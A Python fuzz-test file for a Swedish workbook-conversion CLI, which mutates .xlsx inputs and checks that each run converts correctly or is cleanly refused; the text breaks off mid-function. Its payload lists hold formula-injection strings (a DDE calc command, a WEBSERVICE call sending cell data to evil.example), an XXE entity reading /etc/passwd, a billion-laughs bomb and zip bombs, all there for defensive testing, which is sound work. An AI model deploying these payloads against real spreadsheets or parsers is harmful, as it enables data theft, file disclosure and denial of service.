"""Fuzzing (issue 5): valid workbooks mutated structurally and byte by byte.

Every run goes through `sjukmiljard.cli.main` in-process and must end in exactly one of two ways:

* converted: exit 0, "Klar: …", the output folder holds exactly the result and its figures are right
  (an oracle reads the result's XML back: shares = persons ÷ RIKET, region cells = pot × share,
  the Sammanställning's cells, SUMMA rows and grand total = the pots plus the national sums; the
  pots, national sums and persons can be found in the mutated input; and mutations that cannot
  change a figure, e.g. "39" written as the text "39,000", must give the unmutated base's figures;
  a quarter of the results are converted again, which must give the same figures);
* refused: exit 1, "Avvisad: <file>" followed by "  - …" lines, and the output folder empty.

(The output folder may also hold the run log, `sjukmiljard-logg.csv`, with exactly this run's line.)
The mutations start from conftest's `small_book()` and the 2020 sample, held as plain data and
written by a small .xlsx writer here (so a mutation can produce what Excel never would: duplicate
sheet names, formulas without cached values, error cells, values inside merged ranges).
Known bugs (issue 5's findings, `bug-*.xlsx` in the corpus) are counted, not failed: see KNOWN_ERRORS.

Never a traceback, never "oväntat fel" (an unexpected error is a bug), never a partial output, never
a changed input, and text a spreadsheet would run (`=`, `+`, `-`, `@` …) never comes out as a
formula or a hyperlink: every `<f>` in a result must be one of the writer's own formulas.

Two parts:

* `test_fuzz_mutations`: a fresh, reproducible (derandomized) hypothesis run. 200 mutations by
  default, 2 000 when `CI` is set; `SJUKMILJARD_FUZZ_EXAMPLES=N` overrides both. The session ends
  with a line like "fuzz: 2000 mutationer körda, 0 fel".
* `test_corpus`: the small workbooks in `tests/fuzz_corpus/` with their expected outcome in
  `manifest.json` (see the README there); always runs. `uv run python -m tests.test_fuzz
  --write-corpus` rebuilds the corpus from the builders at the end of this file.

A failing fresh example is saved (the last, shrunk one wins) to `$SJUKMILJARD_FUZZ_SAVE` or the
temp folder's `sjukmiljard-fuzz/`, ready to be copied into the corpus.
"""

from __future__ import annotations

import contextlib
import copy
import csv
import dataclasses
import datetime as dt
import hashlib
import io
import json
import math
import os
import re
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from xml.etree import ElementTree
from xml.sax.saxutils import escape, quoteattr

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sjukmiljard import cli
from sjukmiljard.regions import LAN, NAMES, fold, is_riket
from sjukmiljard.swedish import NotANumber, parse_number

from .conftest import SAMPLE_2020, small_book

CORPUS = Path(__file__).resolve().parent / "fuzz_corpus"
MANIFEST = CORPUS / "manifest.json"
INPUT_NAME = "indata.xlsx"
RESULT_NAME = "indata-resultat.xlsx"
LOG_NAME = "sjukmiljard-logg.csv"  # the run log the CLI appends to in the output folder
IGNORED = ("sammanställning", "anvisningar", "förändring", "utfall", "utbetalning", "utbetalning översikt")
EXTRA_RESULT_SHEETS = ("Utfall", "Utbetalning", "Utbetalning översikt", "Förändring")
STRICT = bool(os.environ.get("SJUKMILJARD_FUZZ_STRICT"))

# Bugs reported but not yet fixed, each with a reproducer in the corpus (a manifest entry with a "bug"
# field, an xfail there). The fresh run counts them as "kända fel" instead of failing, unless
# SJUKMILJARD_FUZZ_STRICT is set. Empty now: the twelve bugs issue 5's fuzzing found were fixed in
# 8841aad (their reproducers, bug-*.xlsx, are ordinary corpus cases since). For a new one, e.g.:
#   KNOWN_ERRORS = {"InvalidWorksheetName": "bug-sheet-name-too-long.xlsx"}
#   KNOWN_WRONG_RESULTS = frozenset({"bug-pots-overflow.xlsx"})  # with `raise known(...)` in the oracle
# and remove the entry when its fix lands (the corpus entry then XPASSes and must lose its "bug" field).
# Unexpected errors, by a text of their message:
KNOWN_ERRORS: dict[str, str] = {}
# Wrong results, by the oracle check that sees them (raised as KnownBug(<corpus file>)):
KNOWN_WRONG_RESULTS: frozenset[str] = frozenset()


class KnownBug(Exception):
    """The oracle found a wrong result that is already reported; the argument names its reproducer."""


def known(bug: str) -> KnownBug | AssertionError:
    """What to raise for a known wrong result: KnownBug, or a plain failure when it is not (or no
    longer) known or the run is strict."""
    if bug in KNOWN_WRONG_RESULTS and not STRICT:
        return KnownBug(bug)
    return AssertionError(f"wrong result, see tests/fuzz_corpus/{bug}")


def fuzz_examples() -> int:
    if value := os.environ.get("SJUKMILJARD_FUZZ_EXAMPLES"):
        return int(value)
    return 2000 if os.environ.get("CI") else 200


# -- a workbook as plain data, and a small .xlsx writer -------------------------------------------


@dataclass(frozen=True)
class Formula:
    """A formula cell; `cached` is what Excel last calculated (None: never calculated)."""

    text: str
    cached: float | str | None = None


@dataclass(frozen=True)
class ErrorCell:
    code: str = "#REF!"


@dataclass(frozen=True)
class RawNumber:
    """A numeric cell written verbatim (e.g. "1E400", which a reader turns into infinity)."""

    text: str


Value = None | str | int | float | dt.date | Formula | ErrorCell | RawNumber


@dataclass
class Sheet:
    title: str
    rows: list[list[Value]]
    state: str = "visible"
    merges: list[str] = field(default_factory=list)


Book = list[Sheet]

_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_STYLES = (
    f'<styleSheet xmlns="{_MAIN}"><fonts count="1"><font><sz val="11"/><name val="Calibri"/></font>'
    '</fonts><fills count="2"><fill><patternFill patternType="none"/></fill><fill><patternFill '
    'patternType="gray125"/></fill></fills><borders count="1"><border/></borders><cellStyleXfs '
    'count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/></cellStyleXfs><cellXfs count="2">'
    '<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/><xf numFmtId="14" fontId="0" '
    'fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs></styleSheet>'
)
_EPOCH = dt.date(1899, 12, 30)


def column_letter(col: int) -> str:
    """0 -> "A", 26 -> "AA"."""
    letters = ""
    col += 1
    while col:
        col, rest = divmod(col - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def to_xlsx(book: Book) -> bytes:
    """The workbook as .xlsx bytes: shared strings, cached formula values, error cells, merges."""
    strings: dict[str, int] = {}

    def shared(text: str) -> int:
        return strings.setdefault(text, len(strings))

    def cell_xml(ref: str, value: Value) -> str:
        if value is None:
            return ""
        if isinstance(value, bool):
            return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
        if isinstance(value, str):
            return f'<c r="{ref}" t="s"><v>{shared(value)}</v></c>'
        if isinstance(value, int | float):
            return f'<c r="{ref}"><v>{value!r}</v></c>'
        if isinstance(value, RawNumber):
            return f'<c r="{ref}"><v>{escape(value.text)}</v></c>'
        if isinstance(value, dt.date):
            return f'<c r="{ref}" s="1"><v>{(value - _EPOCH).days}</v></c>'
        if isinstance(value, ErrorCell):
            return f'<c r="{ref}" t="e"><v>{escape(value.code)}</v></c>'
        cached = value.cached
        kind = ' t="str"' if isinstance(cached, str) else ""
        v = (
            ""
            if cached is None
            else f"<v>{escape(str(cached) if isinstance(cached, str) else repr(cached))}</v>"
        )
        return f'<c r="{ref}"{kind}><f>{escape(value.text)}</f>{v}</c>'

    parts: dict[str, str] = {}
    for n, sheet in enumerate(book, start=1):
        rows = []
        for r, row in enumerate(sheet.rows, start=1):
            cells = "".join(cell_xml(f"{column_letter(c)}{r}", v) for c, v in enumerate(row))
            if cells:
                rows.append(f'<row r="{r}">{cells}</row>')
        merges = "".join(f'<mergeCell ref="{m}"/>' for m in sheet.merges)
        merged = f'<mergeCells count="{len(sheet.merges)}">{merges}</mergeCells>' if merges else ""
        parts[f"xl/worksheets/sheet{n}.xml"] = (
            f'<worksheet xmlns="{_MAIN}"><sheetData>{"".join(rows)}</sheetData>{merged}</worksheet>'
        )
    items = "".join(
        f'<si><t xml:space="preserve">{escape(text)}</t></si>'
        for text, _ in sorted(strings.items(), key=lambda item: item[1])
    )
    sheets = "".join(
        f"<sheet name={quoteattr(s.title)} sheetId={quoteattr(str(n))} r:id={quoteattr(f'rId{n}')}"
        + ("" if s.state == "visible" else f" state={quoteattr(s.state)}")
        + "/>"
        for n, s in enumerate(book, start=1)
    )
    rels = "".join(
        f'<Relationship Id="rId{n}" Type="{_REL}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        for n in range(1, len(book) + 1)
    )
    count = len(book)
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="{_CT}.worksheet+xml"/>'
        for n in range(1, count + 1)
    )
    files = {
        "[Content_Types].xml": (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_CT}.sheet.main+xml"/>'
            f'<Override PartName="/xl/styles.xml" ContentType="{_CT}.styles+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{_CT}.sharedStrings+xml"/>'
            f"{overrides}</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{_PKG_REL}"><Relationship Id="rId1" '
            f'Type="{_REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": f'<workbook xmlns="{_MAIN}" xmlns:r="{_REL}"><sheets>{sheets}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{_PKG_REL}">{rels}'
            f'<Relationship Id="rId{count + 1}" Type="{_REL}/styles" Target="styles.xml"/>'
            f'<Relationship Id="rId{count + 2}" Type="{_REL}/sharedStrings" Target="sharedStrings.xml"/>'
            "</Relationships>"
        ),
        "xl/styles.xml": _STYLES,
        "xl/sharedStrings.xml": f'<sst xmlns="{_MAIN}" count="{len(strings)}">{items}</sst>',
        **parts,
    }
    return zip_bytes({name: text.encode() for name, text in files.items()})


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            archive.writestr(info, data)
    return buffer.getvalue()


def unzip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def model_of(book: openpyxl.Workbook) -> Book:
    """An openpyxl workbook (as built or loaded) as plain data."""
    sheets = []
    for ws in book.worksheets:
        rows: list[list[Value]] = []
        for row in ws.iter_rows():
            values: list[Value] = []
            for cell in row:
                value = cell.value
                if isinstance(value, dt.datetime):
                    value = value.date()
                values.append(value)
            while values and values[-1] is None:
                values.pop()
            rows.append(values)
        sheets.append(Sheet(ws.title, rows, ws.sheet_state, [str(m) for m in ws.merged_cells.ranges]))
    return sheets


_BASES: dict[str, Book] = {}


def base(name: str) -> Book:
    """The valid workbooks the mutations start from: conftest's small_book() and the 2020 sample."""
    if name not in _BASES:
        if name == "small":
            _BASES[name] = model_of(small_book())
        else:
            _BASES[name] = model_of(openpyxl.load_workbook(SAMPLE_2020))
    return copy.deepcopy(_BASES[name])


# -- where things are in a sheet -----------------------------------------------------------------


@dataclass(frozen=True)
class Layout:
    kind: str  # "befolkning", "villkor", "ignored" or "other"
    header: int | None = None
    lan_col: int = 0
    riket: int | None = None


def layout(sheet: Sheet) -> Layout:
    folded_title = fold(sheet.title)
    header = lan_col = None
    for r, row in enumerate(sheet.rows[:40]):
        cols = [c for c, v in enumerate(row) if isinstance(v, str) and fold(v) == "län"]
        if cols:
            header, lan_col = r, cols[0]
            break
    if folded_title in IGNORED:
        return Layout("ignored")
    if header is None or lan_col is None:
        return Layout("befolkning" if folded_title == "befolkning" else "other")
    riket = next(
        (
            r
            for r in range(header + 1, len(sheet.rows))
            if isinstance(cell(sheet, r, lan_col), str) and is_riket(str(cell(sheet, r, lan_col)))
        ),
        None,
    )
    has_persons = any(isinstance(v, str) and fold(v) == "personer" for v in sheet.rows[header])
    if folded_title == "befolkning":
        return Layout("befolkning", header, lan_col, riket)
    if sheet.state != "visible" or has_persons:
        return Layout("other", header, lan_col, riket)
    return Layout("villkor", header, lan_col, riket)


def cell(sheet: Sheet, r: int, c: int) -> Value:
    if r < len(sheet.rows) and c < len(sheet.rows[r]):
        return sheet.rows[r][c]
    return None


def put(sheet: Sheet, r: int, c: int, value: Value) -> None:
    while len(sheet.rows) <= r:
        sheet.rows.append([])
    row = sheet.rows[r]
    while len(row) <= c:
        row.append(None)
    row[c] = value


def zone(sheet: Sheet, r: int) -> str:
    """Which part of a sheet row r is in, for deciding whether a mutation can change a figure."""
    if r >= len(sheet.rows) or all(v is None for v in sheet.rows[r]):
        return "blank"
    where = layout(sheet)
    if where.kind not in ("befolkning", "villkor") or where.header is None or where.riket is None:
        return f"{where.kind}-any"
    if r < where.header:
        return f"{where.kind}-above"
    if r == where.header:
        return "header"
    if r < where.riket:
        return f"{where.kind}-data"
    if r == where.riket:
        return "riket"
    return f"{where.kind}-below"


def sheet_index(book: Book, i: int, want: str | None = None) -> int | None:
    candidates = [n for n, s in enumerate(book) if want is None or layout(s).kind == want]
    return candidates[i % len(candidates)] if candidates else None


def number_of(value: Value) -> float | None:
    if isinstance(value, Formula):
        value = value.cached
    if isinstance(value, bool) or value is None:
        return None
    try:
        return parse_number(value)
    except (NotANumber, TypeError):
        return None


def valid_sheet_name(name: str, book: Book, skip: int | None = None) -> bool:
    """Excel's rules, and not one of the names the reader treats specially."""
    return (
        0 < len(name) <= 31
        and name == name.strip()
        and not re.search(r"[\[\]:*?/\\]", name)
        and not name.startswith("'")
        and not name.endswith("'")
        and fold(name) not in ("befolkning", *IGNORED)
        and all(s.title.lower() != name.lower() for n, s in enumerate(book) if n != skip)
    )


# -- mutations -----------------------------------------------------------------------------------

# Each mutation is a tuple (kind, *arguments) of small values hypothesis can shrink. Applying one
# returns whether it keeps every figure: then the run must convert with the base's figures.
Op = tuple[Any, ...]

PAYLOADS = (
    '=HYPERLINK("http://evil.example/","Klicka här")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "+SUM(1;2)",
    "+46 8 123 45 67 hemligt",
    "-2+3+cmd|' /C calc'!A0",
    "-Region Syd",
    "@SUM(A1:A9)",
    "@Försäkringskassan",
    "http://evil.example/",
    "mailto:hej@evil.example",
    "=",
    "+",
    "-",
    "@",
)
SHEET_NAME_PAYLOADS = ("=1+1", "+Villkor", "-Villkor 9", "@Villkor", "=SUM(A1)", "=HYPERLINK(1)")
SAFE_SHEET_NAMES = ("Villkor 9", "Ärende – Å Ä Ö", "Forskning m.m. 2", "Blad (kopia)", "V" * 31)
ODD_SHEET_NAMES = (
    "Befolkning",
    "BEFOLKNING",
    "befolkning ",
    "Sammanställning",
    "Sammansta\u0308llning",
    "ANVISNINGAR",
    "Utfall",
    "Förändring",
    "Villkor 1",
    "VILLKOR 1",
    "villkor 3",
    "V" * 32,
    "'Villkor'",
    "Villkor's",
    " Villkor 1",
    "History",
    "Län",
    "RIKET",
)
CELL_TEXTS = (
    "",
    " ",
    "Län",
    "län",
    "Personer",
    "RIKET",
    "Riket",
    "SUMMA",
    "Totalt",
    "TOTALT",
    "Stockholms län",
    "Region Stockholm",
    "01",
    "Okänt län",
    "Stokholm",
    "SKR",
    "Försäkringskassan",
    "Anteckning",
    "två miljoner",
    "#REF!",
    "1/11 2019",
    "2019-11-01",
    "31/2 2019",
    "Befolkning 1 november 2019",
    "39.000",
    "1,234.5",
    "12 34",
    "1e3",
    "100 Mkr",
    "−5",
    "-0",
    "1" + "0" * 400,
    "\u00a0",
    "x" * 300,
)
NUMBERS: tuple[Value, ...] = (
    0,
    1,
    -1,
    0.5,
    -0.0005,
    1.2,
    39,
    100,
    10319473,
    2374550.5,
    2**31,
    2**53 + 1,
    1e20,
    1e308,
    5e-324,
    RawNumber("1E400"),
    RawNumber("-1E400"),
    RawNumber("NaN"),
    RawNumber("inf"),
    RawNumber("0x10"),
    RawNumber(""),
    RawNumber("1,5"),
    True,
)
ERRORS = ("#REF!", "#DIV/0!", "#N/A", "#VALUE!", "#NAME?", "#NUM!", "#NULL!", "#SPILL!", "nonsense")
STATES = ("hidden", "veryHidden", "visible", "bogus")
LAN_ALIASES = (
    "{code}",
    "{code} {name}",
    "  {NAME}  ",
    "Region {stem}",
    "{stem}",
    "{name}\u00a0",
    "Landstinget i {name}",
)
_VALID_SEPARATORS = (" ", "\u00a0", "\u2007", "\u2009", "\u202f", "")


def swedish_text(value: Value, style: int) -> str | None:
    """A number as a Swedish finance officer might type it: "2 374 550", "−0,5", " 39,000 "."""
    if isinstance(value, bool) or not isinstance(value, int | float) or not math.isfinite(value):
        return None
    text = repr(value) if isinstance(value, float) else str(value)
    if "e" in text:
        return None
    negative = text.startswith("-")
    whole, _, fraction = text.lstrip("-").partition(".")
    fraction = fraction.rstrip("0") + "0" * (style % 3)
    separator = _VALID_SEPARATORS[style % len(_VALID_SEPARATORS)]
    groups: list[str] = []
    while len(whole) > 3:
        whole, groups = whole[:-3], [whole[-3:], *groups]
    whole = separator.join([whole, *groups])
    minus = ("-", "\u2212", "\u2013")[style % 3]
    padded = (minus if negative else "") + whole + (f",{fraction}" if fraction else "")
    return f" {padded}\u00a0" if style % 4 == 3 else padded


def _invalid_number_text(value: Value, style: int) -> str:
    text = str(value)
    forms = (
        text + ".000",
        f"{value:,}" if isinstance(value, int) else text + "e0",
        text + " Mkr",
        "ca " + text,
    )
    return forms[style % len(forms)]


def apply_op(book: Book, op: Op) -> bool:
    """Mutate `book` in place; True when no figure of the result can change."""
    kind = op[0]
    if kind == "add_sheet":
        return _add_sheet(book, op[1], op[2])
    if not book:
        return False
    if kind == "delete_sheet":
        del book[op[1] % len(book)]
        return False
    if kind == "rename_sheet":
        n = op[1] % len(book)
        name = op[2]
        keeps = layout(book[n]).kind == "villkor" and valid_sheet_name(name, book, skip=n)
        book[n].title = name
        return keeps
    if kind == "set_state":
        n = op[1] % len(book)
        keeps = layout(book[n]).kind in ("other", "ignored") and op[2] in ("hidden", "veryHidden")
        keeps = keeps or op[2] == book[n].state
        book[n].state = op[2]
        return keeps
    if kind == "move_sheet":
        sheet = book.pop(op[1] % len(book))
        book.insert(op[2] % (len(book) + 1), sheet)
        return True
    if kind == "lan_alias":
        return _lan_alias(book, op[1], op[2])
    if kind == "date_form":
        return _date_form(book, op[1])
    if kind == "inject":
        return _inject(book, op[1], op[2], op[3])
    sheet = book[op[1] % len(book)]
    r = op[2] % (len(sheet.rows) + 1)
    if kind in ("swap_rows", "duplicate_row", "delete_row", "insert_blank_row"):
        return _row_op(sheet, kind, r, op[3] % (len(sheet.rows) + 1) if len(op) > 3 else r)
    width = max((len(row) for row in sheet.rows), default=0)
    c = op[3] % (width + 1)
    old = cell(sheet, r, c)
    if kind == "blank_cell":
        put(sheet, r, c, None)
        return old is None
    if kind == "textify":
        text = swedish_text(old, op[4])
        if text is None:
            return True
        put(sheet, r, c, text if op[5] else _invalid_number_text(old, op[4]))
        return bool(op[5])
    if kind == "set_text":
        put(sheet, r, c, op[4])
        return bool(old == op[4])
    if kind == "set_number":
        put(sheet, r, c, op[4])
        return False
    if kind == "set_formula":
        cached: float | str | None = None
        if op[4] == "same" and isinstance(old, str | int | float) and not isinstance(old, bool):
            cached = old
        elif op[4] == "text":
            cached = "Län"
        elif op[4] == "number":
            cached = 1.5
        put(sheet, r, c, Formula("SUM(Z1:Z2)+0", cached))
        return old is not None and cached == old and type(cached) is type(old)
    if kind == "set_error":
        put(sheet, r, c, ErrorCell(op[4]))
        return False
    if kind == "merge":
        return _merge(sheet, r, c, op[4], op[5])
    if kind == "far_cell":
        far_r, far_c = 50 + op[2] % 350, 5 + op[3] % 25
        put(sheet, far_r, far_c, op[4])
        return layout(sheet).riket is not None and number_of(op[4]) is None and op[4] in ("Anteckning",)
    raise AssertionError(f"unknown mutation {kind}")


def _row_op(sheet: Sheet, kind: str, r: int, other: int) -> bool:
    where = layout(sheet)
    z = zone(sheet, r)
    if kind == "swap_rows":
        while len(sheet.rows) <= max(r, other):
            sheet.rows.append([])
        z2 = zone(sheet, other)
        same = z == z2 and z in ("befolkning-data", "villkor-data", "villkor-below")
        sheet.rows[r], sheet.rows[other] = sheet.rows[other], sheet.rows[r]
        return same or sheet.rows[r] == sheet.rows[other]
    if kind == "duplicate_row":
        row = list(sheet.rows[r]) if r < len(sheet.rows) else []
        texts_only = all(number_of(v) is None for v in row)
        sheet.rows.insert(r, row)
        return z in ("blank", "villkor-data") or (z == "villkor-below" and texts_only and _plain_note(row))
    if kind == "delete_row":
        row = sheet.rows[r] if r < len(sheet.rows) else []
        texts_only = all(number_of(v) is None for v in row)
        if r < len(sheet.rows):
            del sheet.rows[r]
        return z in ("blank", "villkor-data") or (z == "villkor-below" and texts_only and _plain_note(row))
    sheet.rows.insert(r, [])
    return where.header is None or where.header < 38 or r > where.header


def _plain_note(row: list[Value]) -> bool:
    return all(v is None or (isinstance(v, str) and fold(v) != "summa") for v in row)


def _merge(sheet: Sheet, r: int, c: int, width: int, height: int) -> bool:
    last_r, last_c = r + height % 3, c + width % 4
    if (last_r, last_c) == (r, c):
        last_c += 1
    sheet.merges.append(f"{column_letter(c)}{r + 1}:{column_letter(last_c)}{last_r + 1}")
    covered = [
        cell(sheet, rr, cc)
        for rr in range(r, last_r + 1)
        for cc in range(c, last_c + 1)
        if (rr, cc) != (r, c)
    ]
    return all(v is None for v in covered)


def _add_sheet(book: Book, kind: str, name: str) -> bool:
    keeps = valid_sheet_name(name, book)
    if kind == "notes":
        book.append(Sheet(name, [["Anteckningar"], ["Inget här är ett villkor"]]))
        return keeps
    if kind == "empty":
        book.append(Sheet(name, []))
        return keeps
    if kind == "anvisningar":
        book.append(Sheet("Anvisningar", [["Län"], ["Så fyller du i"]]))
        return all(fold(s.title) != "anvisningar" for s in book[:-1])
    source = next(
        (s for s in book if layout(s).kind == ("befolkning" if kind == "population" else "villkor")), None
    )
    if source is None:
        return False
    book.append(Sheet(name, copy.deepcopy(source.rows)))
    return keeps and kind == "population"


def _lan_alias(book: Book, i: int, form: int) -> bool:
    n = sheet_index(book, 0, "befolkning")
    if n is None:
        return True
    sheet = book[n]
    where = layout(sheet)
    if where.header is None or where.riket is None:
        return True
    rows = [r for r in range(where.header + 1, where.riket) if isinstance(cell(sheet, r, where.lan_col), str)]
    if not rows:
        return True
    r = rows[i % len(rows)]
    found = [k for k, name in enumerate(NAMES) if fold(name) == fold(str(cell(sheet, r, where.lan_col)))]
    if not found:
        return True
    lan = LAN[found[0]]
    alias = LAN_ALIASES[form % len(LAN_ALIASES)].format(
        code=lan.code, name=lan.name, NAME=lan.name.upper(), stem=lan.stems[0].title()
    )
    put(sheet, r, where.lan_col, alias)
    return True


def _date_form(book: Book, form: int) -> bool:
    n = sheet_index(book, 0, "befolkning")
    if n is None:
        return True
    sheet = book[n]
    forms: tuple[tuple[Value, bool], ...] = (
        ("Befolkning 2019-11-01", True),
        ("Befolkning 1 november 2019", True),
        ("befolkning 1/11\u00a02019 (SCB)", True),
        (dt.date(2019, 11, 1), True),
        ("Befolkning 31/11 2019", False),
        ("Befolkning", False),
        ("Befolkning 1/11 0001", False),
        (Formula('"Befolkning 1/11 2019"', "Befolkning 1/11 2019"), True),
        (Formula('"Befolkning 1/11 2019"', None), False),
    )
    value, keeps = forms[form % len(forms)]
    for r in range(len(sheet.rows)):
        if any(isinstance(v, str) and "2019" in v for v in sheet.rows[r]):
            sheet.rows[r] = [value]
            return keeps
    return True


def _inject(book: Book, where: str, i: int, payload: str) -> bool:
    """Text a spreadsheet would run, as a villkor's title, a note, a national body or a sheet name."""
    n = sheet_index(book, i, "villkor")
    if n is None:
        return True
    sheet = book[n]
    at = layout(sheet)
    assert at.header is not None
    if where == "title":
        for r in range(at.header):
            for c, v in enumerate(sheet.rows[r]):
                if isinstance(v, str):
                    sheet.rows[r][c] = payload
                    return True
        sheet.rows.insert(0, [payload])
        return at.header < 38
    if where == "note":
        if at.riket is None:
            return False
        sheet.rows.append([])
        sheet.rows.append([payload])
        return True
    if where == "sheetname":
        name = SHEET_NAME_PAYLOADS[len(payload) % len(SHEET_NAME_PAYLOADS)]
        keeps = valid_sheet_name(name, book, skip=n)
        sheet.title = name
        return keeps
    if at.riket is None:
        return False
    bodies = [
        r
        for r in range(at.riket + 1, len(sheet.rows))
        if len([v for v in sheet.rows[r] if v is not None]) == 2
        and isinstance(sheet.rows[r][at.lan_col] if at.lan_col < len(sheet.rows[r]) else None, str)
        and number_of(sheet.rows[r][at.lan_col]) is None
        and fold(str(sheet.rows[r][at.lan_col])) != "summa"
        and any(number_of(v) is not None for v in sheet.rows[r])
    ]
    if not bodies:
        sheet.rows.insert(at.riket + 1, [payload, 2.5])
        return False
    taken = {fold(str(sheet.rows[r][at.lan_col])) for r in bodies}
    sheet.rows[bodies[0]][at.lan_col] = payload
    return fold(payload) not in taken and number_of(payload) is None


# -- byte-level damage to the .xlsx ----------------------------------------------------------------


def billion_laughs(levels: int) -> str:
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, levels)
    ]
    return f"<!DOCTYPE lolz [{''.join(entities)}]>"


def with_doctype(xml: bytes, doctype: str, reference: str) -> bytes:
    """Insert a DOCTYPE after the XML declaration and use its entity in the first text."""
    text = xml.decode("utf-8", "replace")
    declaration = ""
    if text.startswith("<?xml"):
        end = text.index("?>") + 2
        declaration, text = text[:end], text[end:]
    text = re.sub(r"(<(?:t|v)(?: [^>]*)?>)", lambda m: m.group(1) + reference, text, count=1)
    if reference not in text:
        text = re.sub(r"^(\s*<[^>]*?)(/?>)", lambda m: m.group(1) + m.group(2) + reference, text, count=1)
    return (declaration + doctype + text).encode()


def apply_bytes(data: bytes, op: Op) -> bytes:
    kind = op[0]
    if kind == "truncate":
        return data[: len(data) * op[1] // 1000]
    if kind == "flip":
        if not data:
            return data
        out = bytearray(data)
        for position, mask in op[1]:
            out[position * len(out) // 1000] ^= mask or 1
        return bytes(out)
    try:
        parts = unzip(data)
    except (zipfile.BadZipFile, zlib.error, OSError, EOFError, ValueError, KeyError):
        return data  # already broken: the remaining damage needs a readable zip
    if kind == "zip_bomb":
        if op[1] == "entry":
            parts["xl/media/image1.xml"] = b"\0" * (2 * 1024 * 1024 + 1)
        else:
            for n in range(201):
                parts[f"xl/media/fill{n}.bin"] = b"\0" * (1024 * 1024)
        return zip_bytes(parts)
    names = sorted(parts)
    name = names[op[1] % len(names)]
    how = op[2]
    part = parts[name]
    if how == "remove":
        del parts[name]
    elif how == "cut":
        parts[name] = part[: len(part) // 2]
    elif how == "garbage":
        middle = len(part) // 2
        parts[name] = part[:middle] + b"<<&&>>\xff\xfe" + part[middle + 3 :]
    elif how == "bad_utf8":
        parts[name] = part.replace(b">", b">\xc3\x28", 1)
    elif how == "empty":
        parts[name] = b""
    elif how == "entity_bomb":
        parts[name] = with_doctype(part, billion_laughs(5), "&lol4;")
    elif how == "xxe":
        parts[name] = with_doctype(part, '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")
    elif how == "dtd_only":
        parts[name] = with_doctype(part, "<!DOCTYPE x>", "")
    return zip_bytes(parts)


# -- running the CLI and checking what it did ------------------------------------------------------


@dataclass
class Run:
    code: int
    out: str
    err: str


def run_cli(args: list[str]) -> Run:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = cli.main(args)
        except SystemExit as exit_:  # argparse
            code = int(exit_.code or 0)
    return Run(code, out.getvalue(), err.getvalue())


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def listing(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def results_in(outbox: Path, status: str | None) -> list[str]:
    """The output folder's files besides the run log, whose only line must be this run's status."""
    names = listing(outbox)
    if LOG_NAME in names:
        assert status is not None, f"{LOG_NAME} written by --check"
        with (outbox / LOG_NAME).open(encoding="utf-8-sig", newline="") as handle:
            rows = list(csv.reader(handle, delimiter=";"))
        assert len(rows) == 2 and rows[1][6] == status, rows
        names.remove(LOG_NAME)
    return names


@dataclass(frozen=True)
class XCell:
    kind: str  # "s" string, "n" number, "f" formula (value = cached), "e" error, "b" bool
    value: float | str | None
    formula: str | None = None


@dataclass
class Result:
    """A result workbook read back from its XML (our own output: trusted)."""

    sheets: dict[str, dict[str, XCell]]
    order: list[str]
    raw: dict[str, bytes]

    def get(self, sheet: str, col: int, row: int) -> float | str | None:
        found = self.sheets[sheet].get(f"{column_letter(col)}{row}")
        return None if found is None else found.value

    def num(self, sheet: str, col: int, row: int) -> float:
        value = self.get(sheet, col, row)
        assert isinstance(value, float), f"{sheet}!{column_letter(col)}{row} is {value!r}, not a number"
        assert math.isfinite(value), f"{sheet}!{column_letter(col)}{row} is {value!r}"
        return value


def read_result(data: bytes) -> Result:
    parts = unzip(data)
    ns = {"m": _MAIN, "r": _REL}
    strings = []
    if "xl/sharedStrings.xml" in parts:
        for si in ElementTree.fromstring(parts["xl/sharedStrings.xml"]).findall("m:si", ns):
            strings.append("".join(t.text or "" for t in si.iter(f"{{{_MAIN}}}t")))
    workbook = ElementTree.fromstring(parts["xl/workbook.xml"])
    rels = ElementTree.fromstring(parts["xl/_rels/workbook.xml.rels"])
    targets = {rel.get("Id"): rel.get("Target") for rel in rels}
    sheets: dict[str, dict[str, XCell]] = {}
    order = []
